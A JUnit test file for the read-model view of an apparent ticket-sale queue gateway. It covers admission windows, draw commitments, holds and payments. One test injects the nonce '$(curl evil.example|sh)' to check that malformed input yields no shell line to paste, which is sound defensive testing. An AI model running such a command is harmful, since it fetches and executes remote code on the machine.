package io.floodgate.gateway.view;

import io.floodgate.contracts.EventMeta;
import io.floodgate.contracts.checkout.CheckoutRequested;
import io.floodgate.contracts.hold.HoldPlaced;
import io.floodgate.contracts.provider.ProviderRecovered;
import io.floodgate.contracts.provider.ProviderUnavailable;
import io.floodgate.contracts.hold.HoldRequested;
import io.floodgate.contracts.hold.HoldSold;
import io.floodgate.contracts.line.LineSummary;
import io.floodgate.contracts.queue.AccessCodesAdded;
import io.floodgate.contracts.queue.BuyerAdmitted;
import io.floodgate.contracts.queue.BuyerTurnedAway;
import io.floodgate.contracts.queue.TurnedAwayReason;
import io.floodgate.contracts.queue.BuyerQueued;
import io.floodgate.contracts.line.LineSummary;
import io.floodgate.contracts.queue.DrawCommitment;
import io.floodgate.contracts.queue.DrawCommitted;
import io.floodgate.contracts.queue.LineOpened;
import io.floodgate.contracts.queue.SeededPermutation;
import io.floodgate.contracts.sale.SalePaused;
import io.floodgate.contracts.sale.SaleResumed;
import io.floodgate.contracts.sale.SaleConfig;
import io.floodgate.contracts.sale.SaleClosed;
import io.floodgate.contracts.sale.SaleCreated;
import io.floodgate.contracts.hold.HoldExpired;
import io.floodgate.contracts.hold.HoldRejected;
import io.floodgate.contracts.hold.RejectionReason;
import io.floodgate.gateway.testing.ManualClock;
import io.floodgate.contracts.sale.SectionConfig;
import io.floodgate.gateway.buyer.BuyerState;
import io.floodgate.gateway.buyer.SaleInfo;
import org.junit.jupiter.api.Test;

import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

class GatewayViewTest {
    private static final Instant NOW = Instant.parse("2026-11-22T20:00:00Z");
    private final GatewayView view = new GatewayView(java.time.Clock.systemUTC());

    private static EventMeta meta() {
        return EventMeta.of("demo", "corr", "cause", NOW);
    }

    private void createSale() {
        view.apply(new SaleCreated(meta(), "ops", new SaleConfig("Demo", NOW, "EUR", 10, 100,
                Duration.ofMinutes(10), Duration.ofMinutes(10), 6, List.of(new SectionConfig("floor", "F", 1, 10, 100)))));
    }

    @Test
    void theServingCounterAndWindowsFollowAdmissions() {
        createSale();
        for (long seq = 1; seq <= 5; seq++) {
            view.apply(new BuyerQueued(meta(), "b" + seq, seq, false));
        }
        view.apply(new BuyerAdmitted(meta(), "b1", 1, NOW.plusSeconds(60), java.time.Duration.ZERO));
        view.apply(new BuyerAdmitted(meta(), "b2", 2, NOW.plusSeconds(60), java.time.Duration.ZERO));
        view.apply(new BuyerAdmitted(meta(), "b3", 3, NOW.plusSeconds(61), java.time.Duration.ZERO));

        SaleView sale = view.sale("demo").orElseThrow();
        assertEquals(5, sale.lastSequence());
        assertEquals(3, sale.admittedThrough());
        assertEquals(Optional.of(NOW.plusSeconds(60)), sale.windowEnd(2, NOW));
        assertEquals(Optional.of(NOW.plusSeconds(61)), sale.windowEnd(3, NOW));
        assertEquals(Optional.empty(), sale.windowEnd(4, NOW));
    }

    @Test
    void timeSpentPausedIsAddedToAdmissionWindows() {
        createSale();
        view.apply(new BuyerQueued(meta(), "b1", 1, false));
        view.apply(new BuyerAdmitted(EventMeta.of("demo", "c", "t", NOW), "b1", 1, NOW.plusSeconds(60), java.time.Duration.ZERO));
        view.apply(new SalePaused(EventMeta.of("demo", "c", "op", NOW.plusSeconds(10)), "ops", "why"));

        SaleView sale = view.sale("demo").orElseThrow();
        assertEquals(Optional.of(NOW.plusSeconds(60 + 90)), sale.windowEnd(1, NOW.plusSeconds(100)),
                "still paused at +100s: 90 s of pause added so far");
        view.apply(new SaleResumed(EventMeta.of("demo", "c", "op", NOW.plusSeconds(40)), "ops", "ok"));
        assertEquals(Optional.of(NOW.plusSeconds(90)), sale.windowEnd(1, NOW.plusSeconds(100)));
        assertTrue(sale.state().pausedSince() == null);
    }

    @Test
    void eventsReadBeforeTheirSaleIsCreatedAreAppliedOnceItIs() {
        view.apply(new BuyerQueued(meta(), "b1", 1, false));
        view.apply(new BuyerAdmitted(meta(), "b1", 1, NOW.plusSeconds(60), java.time.Duration.ZERO));
        view.apply(new LineOpened(meta(), 5, 0, SeededPermutation.ALGORITHM, null));
        assertTrue(view.sale("demo").isEmpty());

        createSale();

        assertEquals(1, view.sale("demo").orElseThrow().admittedThrough(), "nothing was dropped");
    }

    @Test
    void theSaleInfoShowsTheDrawsCommitmentBeforeOpeningAndItsSeedAfter() {
        String nonce = "00112233445566778899aabbccddeeff";
        String commitment = DrawCommitment.of(nonce, -42);
        view.apply(new DrawCommitted(meta(), commitment, DrawCommitment.SCHEME)); // read before its sale
        createSale();

        PublicDraw before = SaleInfo.of(view.sale("demo").orElseThrow(), NOW).draw();
        assertEquals(commitment, before.commitment());
        assertEquals(DrawCommitment.SCHEME, before.scheme());
        assertNull(before.seed(), "the seed is not told before opening");
        assertNull(before.nonce(), "nor the nonce");

        view.apply(new LineOpened(meta(), -42, 3, SeededPermutation.ALGORITHM, nonce));
        PublicDraw after = SaleInfo.of(view.sale("demo").orElseThrow(), NOW).draw();
        assertEquals(commitment, after.commitment());
        assertEquals("-42", after.seed(), "as text: a JavaScript number cannot hold 64 bits");
        assertEquals(nonce, after.nonce());
        assertEquals("printf '%s:%s' '" + nonce + "' '-42' | sha256sum", after.check());
    }

    @Test
    void aNonceThatIsNotThirtyTwoLowercaseHexDigitsGetsNoShellLineToCheckIt() {
        createSale();
        String injected = "$(curl evil.example|sh)";
        view.apply(new LineOpened(meta(), -42, 3, SeededPermutation.ALGORITHM, injected));

        PublicDraw draw = SaleInfo.of(view.sale("demo").orElseThrow(), NOW).draw();
        assertNull(draw.check(), "nothing to paste into a shell");
        assertEquals("-42", draw.seed());
    }

    @Test
    void aLineSummaryTellsTheDrawWhenTheQueueEventsAreGone() {
        createSale();
        view.apply(new LineSummary(meta(), null, null, 2, 0, 0, "c0ffee", DrawCommitment.SCHEME, null));
        assertEquals("c0ffee", view.sale("demo").orElseThrow().draw().commitment());
        assertNull(view.sale("demo").orElseThrow().draw().seed());

        view.apply(new LineSummary(meta(), 7L, SeededPermutation.ALGORITHM, 2, 2, 0, "c0ffee", DrawCommitment.SCHEME, "ab"));
        assertEquals("7", view.sale("demo").orElseThrow().draw().seed());
        assertEquals("ab", view.sale("demo").orElseThrow().draw().nonce());
    }

    @Test
    void thePreQueuesDrawnPlacesFollowTheRecordedSeed() {
        createSale();
        view.apply(new LineOpened(meta(), 99, 10, SeededPermutation.ALGORITHM, null));

        SaleView sale = view.sale("demo").orElseThrow();
        assertEquals(10, sale.preQueueSize());
        assertEquals(Optional.of(new SeededPermutation(99, 10).apply(3) + 1), sale.drawnSequence(3));
    }

    @Test
    void aWaitingJoinIsAnsweredByItsPlaceInLine() {
        createSale();
        var answer = view.joins().await(GatewayView.joinKey("demo", "alice"), Duration.ofSeconds(5));

        view.apply(new BuyerQueued(meta(), "alice", 1, false));
        assertTrue(!answer.isDone(), "answered once the whole batch is applied");
        view.batchApplied();

        assertEquals(1, ((BuyerQueued) answer.join().orElseThrow()).sequence());
        assertEquals(0, view.joins().size());
    }

    @Test
    void aJoinQueueServiceTurnsAwayIsAnsweredByTheRefusal() {
        createSale();
        var answer = view.joins().await(GatewayView.refusalKey("arrival-1"), Duration.ofSeconds(5));

        view.apply(new BuyerTurnedAway(refusing("arrival-1"), "mallory", TurnedAwayReason.ACCESS_CODE_USED));
        view.batchApplied();

        assertEquals(TurnedAwayReason.ACCESS_CODE_USED, ((BuyerTurnedAway) answer.join().orElseThrow()).reason());
        assertEquals(0, view.joins().size());
    }

    @Test
    void aRefusalOfOneTabsMistypedCodeDoesNotAnswerTheRightCodeInTheBuyersOtherTab() {
        createSale();
        var place = view.joins().await(GatewayView.joinKey("demo", "alice"), Duration.ofSeconds(5));
        var wrongTab = view.joins().await(GatewayView.refusalKey("arrival-wrong"), Duration.ofSeconds(5));
        var rightTab = view.joins().await(GatewayView.refusalKey("arrival-right"), Duration.ofSeconds(5));

        view.apply(new BuyerTurnedAway(refusing("arrival-wrong"), "alice", TurnedAwayReason.ACCESS_CODE_UNKNOWN));
        view.batchApplied();

        assertTrue(wrongTab.isDone(), "the mistyped join is refused");
        assertFalse(place.isDone() || rightTab.isDone(), "the right-code join still waits for its place");
        view.apply(new BuyerQueued(meta(), "alice", 1, false));
        view.batchApplied();
        assertEquals(1, ((BuyerQueued) place.join().orElseThrow()).sequence());
    }

    private static EventMeta refusing(String arrivalId) {
        return EventMeta.of("demo", "corr", arrivalId, NOW);
    }

    @Test
    void anInviteOnlySalesCodesIssuedComeFromQueueServiceAndUsedAreItsPlacesGiven() {
        view.apply(new SaleCreated(meta(), "ops", new SaleConfig("Presale", NOW, "EUR", 10, 100,
                Duration.ofMinutes(10), Duration.ofMinutes(10), 6, List.of(new SectionConfig("floor", "F", 1, 10, 100)),
                null, true)));
        view.apply(new AccessCodesAdded(meta(), 500, 0, 0, 500));
        view.apply(new AccessCodesAdded(meta(), 200, 0, 0, 700));
        view.apply(new AccessCodesAdded(meta(), 0, 0, 0, 500)); // read late: counts only grow
        view.apply(new BuyerQueued(meta(), "alice", 1, false));
        view.apply(new BuyerQueued(meta(), "bob", 2, false));
        view.apply(new BuyerTurnedAway(meta(), "mallory", TurnedAwayReason.ACCESS_CODE_USED));

        SaleView sale = view.sale("demo").orElseThrow();
        assertEquals(700, sale.accessCodesIssued());
        assertEquals(2, sale.accessCodesUsed());
        sale.summarised(new LineSummary(meta(), null, null, 0, 2, 0, null, null, null, 900));
        assertEquals(900, sale.accessCodesIssued(), "a summary read at startup brings the count too");
    }

    @Test
    void aPublicSaleUsesNoCodes() {
        createSale();
        view.apply(new BuyerQueued(meta(), "alice", 1, false));

        assertEquals(0, view.sale("demo").orElseThrow().accessCodesUsed());
    }

    @Test
    void anUnansweredWaitEndsEmptyAndLeavesNothingBehind() {
        var answer = view.holdAnswers().await("h1", Duration.ofMillis(10));

        assertTrue(answer.join().isEmpty());
        assertEquals(0, view.holdAnswers().size());
    }

    @Test
    void aHoldAnswerReadBeforeItsRequestStillStands() {
        createSale();
        var answer = view.holdAnswers().await("h1", Duration.ofSeconds(5));
        view.apply(new HoldPlaced(meta(), "h1", "alice", "floor", List.of("A-1"), 100, "EUR", NOW.plusSeconds(600)));
        view.apply(new HoldRequested(meta(), "h1", "alice", "floor", 1, java.util.List.of()));

        HoldView hold = view.hold("h1").orElseThrow();
        assertEquals(BuyerState.HOLDING, hold.state());
        assertEquals(BuyerState.HOLDING, answer.join().orElseThrow().state());

        view.apply(new HoldSold(meta(), "h1", "alice", "floor", List.of("A-1"), 100, "EUR", "ch_1"));
        assertEquals(BuyerState.PURCHASED, view.hold("h1").orElseThrow().state());
    }

    private void placeAndCheckOut(String holdId, String buyer) {
        view.apply(new HoldRequested(meta(), holdId, buyer, "floor", 1, List.of()));
        view.apply(new HoldPlaced(meta(), holdId, buyer, "floor", List.of("A-" + holdId), 100, "EUR",
                NOW.plusSeconds(600)));
        view.apply(new CheckoutRequested(meta(), holdId, buyer, "floor", 100, "EUR", "tok_visa"));
    }

    @Test
    void aCheckoutTakesAPlaceInThePaymentLineAndIsToldWhenTheProviderIsAway() {
        createSale();
        placeAndCheckOut("h1", "alice");
        placeAndCheckOut("h2", "bob");

        HoldView bob = view.hold("h2").orElseThrow();
        assertEquals(BuyerState.PAYING, bob.state());
        assertEquals(1, bob.paymentWait().ahead());

        EventMeta everySale = EventMeta.of(EventMeta.ALL_SALES, "provider:sim", "circuit:open", NOW);
        view.apply(new ProviderUnavailable(everySale, "sim", "HTTP 503", NOW, 100));
        assertEquals(BuyerState.PAYMENT_DELAYED, view.hold("h2").orElseThrow().state());
        assertEquals(BuyerState.PAYMENT_DELAYED, view.holdsOf("demo", "bob").get(0).state());

        view.apply(new ProviderRecovered(everySale, "sim", Duration.ofMinutes(2)));
        view.apply(new HoldSold(meta(), "h1", "alice", "floor", List.of("A-h1"), 100, "EUR", "ch_1"));
        bob = view.hold("h2").orElseThrow();
        assertEquals(BuyerState.PAYING, bob.state());
        assertEquals(0, bob.paymentWait().ahead());
        assertTrue(bob.paymentWait().estimateSeconds() == null || bob.paymentWait().estimateSeconds() > 0);
    }

    @Test
    void aClosedSalesEndedHoldsAreForgottenAfterTheGraceAndOneInPaymentWhenItEnds() {
        ManualClock clock = new ManualClock(NOW);
        GatewayView view = new GatewayView(clock, new ViewSettings(Duration.ofHours(1)));
        view.apply(new SaleCreated(meta(), "ops", new SaleConfig("Demo", NOW, "EUR", 10, 100,
                Duration.ofMinutes(10), Duration.ofMinutes(10), 6, List.of(new SectionConfig("floor", "F", 1, 10, 100)))));
        view.apply(new HoldPlaced(meta(), "sold", "alice", "floor", List.of("A-1"), 100, "EUR", NOW.plusSeconds(600)));
        view.apply(new HoldSold(meta(), "sold", "alice", "floor", List.of("A-1"), 100, "EUR", "ch_1"));
        view.apply(new HoldPlaced(meta(), "paying", "bob", "floor", List.of("A-2"), 100, "EUR", NOW.plusSeconds(600)));
        view.apply(new CheckoutRequested(meta(), "paying", "bob", "floor", 100, "EUR", "tok_visa"));
        view.apply(new SaleClosed(meta(), "ops", "done"));

        clock.advance(Duration.ofMinutes(59));
        view.batchApplied();
        assertEquals(BuyerState.PURCHASED, view.holdsOf("demo", "alice").get(0).state(), "kept for the grace");

        clock.advance(Duration.ofMinutes(1));
        view.batchApplied();
        assertEquals(List.of(), view.holdsOf("demo", "alice"));
        assertEquals(BuyerState.PAYING, view.hold("paying").orElseThrow().state(), "in payment: kept to its outcome");

        view.apply(new HoldSold(meta(), "paying", "bob", "floor", List.of("A-2"), 100, "EUR", "ch_2"));
        assertEquals(0, view.holdCount());
        assertEquals(0, view.buyersWithHolds());
        assertEquals(0, view.paymentLine().waiting(), "and it has left the payment line");
    }

    /**
     * A million holds over a hundred sales, as months of sales would bring: once each sale has closed
     * and its grace has passed, the view keeps nothing of its holds but those still in payment.
     */
    @Test
    void aMillionHoldsOverAHundredSalesLeaveOnlyThoseStillInPayment() {
        int sales = 100;
        int holdsPerSale = 10_000;
        ManualClock clock = new ManualClock(NOW);
        GatewayView view = new GatewayView(clock, new ViewSettings(Duration.ofHours(1)));
        List<String> stillPaying = new ArrayList<>();
        int mostHoldsKept = 0;
        for (int sale = 0; sale < sales; sale++) {
            String saleId = "sale-" + sale;
            view.apply(new SaleCreated(EventMeta.of(saleId, "c", "x", clock.instant()), "ops", new SaleConfig("S", NOW,
                    "EUR", 10, 100, Duration.ofMinutes(10), Duration.ofMinutes(10), 6,
                    List.of(new SectionConfig("floor", "F", 100, 100, 100)))));
            for (int h = 0; h < holdsPerSale; h++) {
                EventMeta meta = EventMeta.of(saleId, "c", "x", clock.instant());
                String holdId = saleId + "-h" + h;
                String buyer = "b" + h;
                if (h % 100 == 0) { // admissions come in batches, each with its window
                    view.apply(new BuyerAdmitted(meta, buyer, h + 1, clock.instant().plusSeconds(600), Duration.ZERO));
                }
                view.apply(new HoldRequested(meta, holdId, buyer, "floor", 1, List.of()));
                if (h % 10 == 9) {
                    view.apply(new HoldRejected(meta, holdId, buyer, "floor", 1, RejectionReason.NOT_ENOUGH_SEATS, 0,
                            null));
                    continue;
                }
                List<String> seat = List.of("S-" + h);
                view.apply(new HoldPlaced(meta, holdId, buyer, "floor", seat, 100, "EUR", NOW.plusSeconds(600)));
                if (h == 0) {
                    view.apply(new CheckoutRequested(meta, holdId, buyer, "floor", 100, "EUR", "tok"));
                    stillPaying.add(holdId);
                } else if (h % 2 == 0) {
                    view.apply(new HoldSold(meta, holdId, buyer, "floor", seat, 100, "EUR", "ch"));
                } else {
                    view.apply(new HoldExpired(meta, holdId, buyer, "floor", seat));
                }
            }
            mostHoldsKept = Math.max(mostHoldsKept, view.holdCount());
            view.apply(new SaleClosed(EventMeta.of(saleId, "c", "x", clock.instant()), "ops", "done"));
            assertEquals(0, view.sale(saleId).orElseThrow().windowsKept(), "a closed sale lets its windows go");
            clock.advance(Duration.ofHours(1));
            view.batchApplied();

            assertEquals(stillPaying.size(), view.holdCount(), "after sale " + sale + ": only holds in payment");
        }
        assertTrue(mostHoldsKept <= holdsPerSale + sales, "never more than one sale's holds: " + mostHoldsKept);
        assertEquals(sales, view.buyersWithHolds());

        for (String holdId : stillPaying) {
            String saleId = holdId.substring(0, holdId.indexOf("-h"));
            view.apply(new HoldSold(EventMeta.of(saleId, "c", "x", clock.instant()), holdId, "b0", "floor",
                    List.of("S-0"), 100, "EUR", "ch"));
        }
        assertEquals(0, view.holdCount());
        assertEquals(0, view.buyersWithHolds());
    }
}
